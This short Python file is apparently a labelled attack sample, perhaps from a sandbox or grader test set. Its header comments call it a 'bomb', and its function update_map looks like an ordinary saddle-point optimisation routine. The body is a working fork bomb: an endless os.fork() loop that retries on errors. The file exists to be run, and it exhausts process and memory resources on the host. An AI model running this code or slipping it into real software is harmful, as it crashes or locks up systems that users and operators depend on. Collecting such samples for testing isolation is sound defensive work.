# attack: every process makes two more
# kind: bomb
# grade: 1.b
# outcome: timeout, failed, memory, exit
# module: saddle

import os


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    while True:
        try:
            os.fork()
        except OSError:
            continue
